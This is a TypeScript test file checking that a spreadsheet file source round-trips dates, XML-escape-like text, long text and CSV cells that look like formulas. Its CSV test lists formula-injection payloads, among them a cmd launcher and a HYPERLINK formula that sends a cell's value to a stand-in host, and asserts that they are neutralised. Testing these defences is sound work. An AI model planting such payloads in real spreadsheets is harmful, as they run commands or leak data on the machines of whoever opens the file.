// Values that must come back from a file exactly as they were written, through a fold and a
// fresh read: dates from 0001-01-01 to 9999-12-31 on every format, text that looks like CSV
// formulas, and text that looks like XML escapes in .xlsx.
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { coerceWritten } from '../../../lib/coerce.ts';
import type { SheetRow, TypedValue, Workbook } from '../../../lib/workbook.ts';
import { createApp } from '../../../server/http/app.ts';
import { createLogger } from '../../../server/log.ts';
import { isoToSerial, serialToIso } from '../../../server/sources/file/dates.ts';
import { openFileSource, type FileFormat } from '../../../server/sources/file/mod.ts';
import { recordingLog, shownText, tempFolder, writeFixture } from '../../helpers/file-source.ts';
import { CONTRACT_FIXTURE, appendPlan, planned, replacePlan } from '../../helpers/source-contract.ts';

const FORMATS: readonly FileFormat[] = ['xlsx', 'ods', 'csv'];
const NO_QUOTA = { take: () => ({ allowed: true, headers: {} }), peek: () => ({}) };

/** Appends `rows` to the People tab of a fresh file, folds (close), and answers the rows read back by a new source. */
async function roundTrip(format: FileFormat, rows: readonly SheetRow[]): Promise<SheetRow[]> {
  const folder = await tempFolder();
  try {
    const path = await writeFixture(folder.dir, CONTRACT_FIXTURE, format);
    const source = await openFileSource({ path, log: recordingLog().log });
    await source.write((workbook) => planned(workbook, appendPlan(workbook, rows), null));
    await source.close();
    const again = await openFileSource({ path, log: recordingLog().log });
    const read: Workbook = await again.read();
    await again.close();
    return read.tabs[0].rows.slice(4, 4 + rows.length);
  } finally {
    await folder.cleanup();
  }
}

test('ISO dates <-> serials for years 1 to 9999', async (t) => {
  const cases: [string, boolean, number][] = [
    ['0001-01-01', false, -693_594],
    ['0099-12-31', false, -657_436],
    ['0100-01-01', false, -657_435],
    ['1899-12-31', false, 0],
    ['1900-01-01', false, 1],
    ['9999-12-31', false, 2_958_465],
    ['0050-06-15', true, -676_993],
  ];
  for (const [iso, date1904, serial] of cases) {
    await t.test(`${iso}${date1904 ? ' (1904)' : ''}`, () => {
      assert.equal(isoToSerial(iso, date1904), serial);
      assert.equal(serialToIso(serial, date1904), iso);
    });
  }
});

const DATES = ['0001-01-01', '0099-12-31', '1899-12-31', '1900-01-01', '1900-02-28', '1900-03-01', '9999-12-31'];

/**
 * Dates before the first day a format's serials show correctly are stored as their ISO text:
 * .xlsx from 1900-01-01 (Excel's day 1); .ods stores dates as ISO text (`office:date-value`) and
 * .csv holds the text anyway.
 */
const FIRST_DATE: Record<FileFormat, string> = { xlsx: '1900-01-01', ods: '0001-01-01', csv: '0001-01-01' };

for (const format of FORMATS) {
  test(`${format}: dates from 0001 to 9999 survive a fold`, async () => {
    const rows = DATES.map((iso): SheetRow => ({ text: [`D${iso}`, iso], value: [`D${iso}`, { iso }] }));
    const read = await roundTrip(format, rows);
    for (const [n, iso] of DATES.entries()) {
      const expected: TypedValue = iso >= FIRST_DATE[format] ? { iso } : iso;
      assert.deepEqual(read[n].value.slice(0, 2), [`D${iso}`, expected], `${iso} keeps its day`);
      assert.equal(read[n].text[1], iso, `${iso} shows as itself`);
    }
  });
}

/** A row as the engine builds it from a POST body (`formulas`: the connection allows formulas). */
function writtenRow(inputs: readonly (string | number)[], formulas = false): SheetRow {
  const cells = inputs.map((input) => coerceWritten(input, formulas));
  const row: SheetRow = { text: cells.map((cell) => cell.text), value: cells.map((cell) => cell.value) };
  return cells.some((cell) => cell.formula !== undefined) ? { ...row, formula: cells.map((cell) => cell.formula) } : row;
}

test('csv: written text that would run as a formula is stored behind a quote and reads back as written', async (t) => {
  // [written value, the field in the file]
  const cases: [string | number, string][] = [
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://x.example/?"&A1,"click")', `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`],
    ['+1+2', "'+1+2"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tpadded', "'\tpadded"],
    ['\rreturn', `"'\rreturn"`],
    [-3.5, '-3.5'],
    ['-3.50', '-3.50'],
    ['+1', '+1'],
    ["'=quoted already", "''=quoted already"],
    ["'plain", "'plain"],
    ['a=b', 'a=b'],
  ];
  const folder = await tempFolder();
  try {
    const path = join(folder.dir, 'notes.csv');
    await writeFile(path, 'Name,Note\r\n');
    const source = await openFileSource({ path, log: recordingLog().log });
    await source.write((workbook) => planned(workbook, appendPlan(workbook, cases.map(([value]) => writtenRow(['n', value]))), null));
    const before = (await source.read()).tabs[0].rows.slice(1).map((row) => row.text[1]);
    await source.close();
    const lines = (await readFile(path, 'utf8')).split('\r\n').slice(1, -1);
    const again = await openFileSource({ path, log: recordingLog().log });
    const after = (await again.read()).tabs[0].rows.slice(1);
    await again.close();
    for (const [n, [value, field]] of cases.entries()) {
      await t.test(JSON.stringify(value), () => {
        assert.equal(lines[n], `n,${field}`, 'the field in the file');
        assert.equal(before[n], String(value), 'read before the fold');
        assert.equal(after[n].text[1], String(value), 'read after the fold');
        assert.deepEqual(after[n].value[1], typeof value === 'number' ? value : String(value));
      });
    }
  } finally {
    await folder.cleanup();
  }
});

test('csv: a date-time POSTed reads back in the form it was echoed, after a fresh load, in every century', async (t) => {
  const written = ['0001-01-01T00:00:01', '0099-03-01T09:30:00', '0099-12-31T23:59:59.5', '0100-01-01T12:00:00', '1899-12-31T09:30', '2024-03-01T09:30:00', '9999-12-31T23:59:59'];
  const folder = await tempFolder();
  try {
    const path = join(folder.dir, 'times.csv');
    await writeFile(path, 'Label,When\r\n');
    const serve = async () => {
      const source = await openFileSource({ path, log: recordingLog().log });
      const app = createApp({ connections: [{ id: 'times', source, keys: [], readOnly: false, engine: {} }], quota: NO_QUOTA, bodyBytes: 1 << 20, cors: '*', log: createLogger('silent') });
      const get = async (query: string) => ((await (await app.fetch(new Request(`http://x/sheets/times${query}`))).json()) as { When: unknown }[]).map((row) => row.When);
      return { source, app, get };
    };
    const first = await serve();
    const echoed: unknown[] = [];
    for (const when of written) {
      const answer = await first.app.fetch(new Request('http://x/sheets/times', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ Label: 'l', When: when }) }));
      assert.equal(answer.status, 201);
      echoed.push(((await answer.json()) as { When: unknown }).When);
    }
    const echoedRaw = await first.get('?_raw=1');
    await first.source.close();
    const again = await serve();
    const [shown, raw] = [await again.get(''), await again.get('?_raw=1')];
    await again.source.close();
    for (const [n, when] of written.entries()) {
      await t.test(when, () => {
        assert.equal(shown[n], echoed[n], 'the shown text: as echoed');
        assert.equal(raw[n], echoedRaw[n], 'the _raw value: as echoed, a date-time still');
        assert.match(String(raw[n]), /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}/);
      });
    }
  } finally {
    await folder.cleanup();
  }
});

test('csv: fields already in the file and formulas written where allowed are never altered', async () => {
  const folder = await tempFolder();
  try {
    const path = join(folder.dir, 'notes.csv');
    const original = "Name,Note,Calc\r\nAnn,=SUM(1;2),@x\r\nBob,'=quoted,-1+1\r\n";
    await writeFile(path, original);
    const source = await openFileSource({ path, log: recordingLog().log });
    assert.deepEqual((await source.read()).tabs[0].rows[2].text, ['Bob', '=quoted', '-1+1'], 'the quote sheetrest would add is read as its escape');
    // PATCH Ann's Name only; append a formula through a connection that allows formulas.
    await source.write((workbook) => planned(workbook, replacePlan(workbook, 0, { text: ['Annie', '=SUM(1;2)', '@x'], value: ['Annie', '=SUM(1;2)', '@x'] }, [0]), null));
    await source.write((workbook) => planned(workbook, appendPlan(workbook, [writtenRow(['Cy', '=B2*2', '=B2'], true)]), null));
    await source.close();
    assert.equal(await readFile(path, 'utf8'), "Name,Note,Calc\r\nAnnie,=SUM(1;2),@x\r\nBob,'=quoted,-1+1\r\nCy,=B2*2,=B2\r\n");
  } finally {
    await folder.cleanup();
  }
});

test('text that looks like XML escapes reads back as written, after a fold and on every format', async (t) => {
  const texts = ['a&amp;b', 'a&lt;b&gt;', '&#65;', '_x0042_', '_x005F_x0042_', '_x0041_x0042_', '<b>bold</b>', '"quoted" & \'single\''];
  for (const format of FORMATS) {
    await t.test(format, async () => {
      // .ods also keeps what ODF's white-space rules would fold: a carriage return, spaces at the ends and in runs, tabs.
      const cases = format === 'ods' ? [...texts, 'x_x000D_y', 'a\rb', 'a\r\nb', ' padded  twice ', 'tab\tend\t', '\n'] : [...texts, 'x_x000D_y'];
      const read = await roundTrip(format, cases.map((text) => ({ text: ['t', text], value: ['t', text] })));
      assert.deepEqual(read.map((row) => row.text[1]), cases);
      assert.deepEqual(read.map((row) => row.value[1]), cases);
    });
  }
  await t.test('ods: a literal escape of a control character XML cannot hold is the one text that does not survive', async () => {
    const [read] = await roundTrip('ods', [{ text: ['t', 'x_x0001_y'], value: ['t', 'x_x0001_y'] }]);
    assert.equal(read.text[1], 'x\u0001y');
  });
  await t.test('xlsx: stored the way Excel stores it', async () => {
    const folder = await tempFolder();
    try {
      const path = await writeFixture(folder.dir, CONTRACT_FIXTURE, 'xlsx');
      const source = await openFileSource({ path, log: recordingLog().log });
      await source.write((workbook) => planned(workbook, appendPlan(workbook, [{ text: ['t', '_x0042_'], value: ['t', '_x0042_'] }]), null));
      await source.close();
      // What another reader finds: SheetJS decodes `_x005F_` to `_`, as Excel does.
      assert.equal((await shownText(path)).People[4][1], '_x0042_');
    } finally {
      await folder.cleanup();
    }
  });
});

test('the longest text each format stores survives a fold', async (t) => {
  const cases: [FileFormat, number][] = [
    ['xlsx', 32_767],
    ['ods', 200_000],
    ['csv', 1_000_000],
  ];
  for (const [format, length] of cases) {
    await t.test(`${format}: ${length.toLocaleString('en-US')} characters`, async () => {
      const text = 'a'.repeat(length - 3) + 'end';
      const [read] = await roundTrip(format, [{ text: ['long', text], value: ['long', text] }]);
      assert.equal(read.text[1], text);
    });
  }
});
